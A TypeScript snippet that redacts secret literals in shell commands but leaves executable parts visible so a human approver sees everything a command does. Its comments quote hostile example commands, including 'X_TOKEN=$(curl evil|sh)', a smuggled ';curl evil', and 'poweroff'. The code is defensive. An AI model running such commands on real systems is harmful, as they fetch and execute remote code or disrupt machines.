/** With any of these characters, a shell or a program may do something instead of taking the text literally. */
const SYNTAX = /[$`;|&()<>\r\n]/;

/**
 * Replaces secrets, but only literals, because a person who approves a command has to see everything it does.
 * `X_TOKEN=$(curl evil|sh)` stays, and of `X_TOKEN=abcdefgh;curl evil` only the value is hidden.
 */
export function redactLiterals(text: string, shape: RegExp, instead: string): string {
  return text.replace(shape, (found: string, ...rest: unknown[]) => {
    const [lead, at] = typeof rest[0] === 'string' ? [rest[0], rest[1]] : ['', rest[0]];
    const hidden = found.slice(lead.length);
    if (mayRun(lead, hidden, text[Number(at) - 1])) return found;
    const end = hidden.search(SYNTAX);
    if (end < 0) return lead + instead;
    return end === 0 ? found : lead + instead + hidden.slice(end);
  });
}

/** After a blank there can be a program's name: `X_TOKEN= poweroff`, `A=Bearer /tmp/program`. */
function mayRun(lead: string, hidden: string, before: string | undefined): boolean {
  if (!/\s/.test(lead)) return false;
  if (/[\r\n]/.test(lead)) return true;
  return lead.startsWith('=') ? before === undefined || !/\s/.test(before) : hidden.includes('/');
}
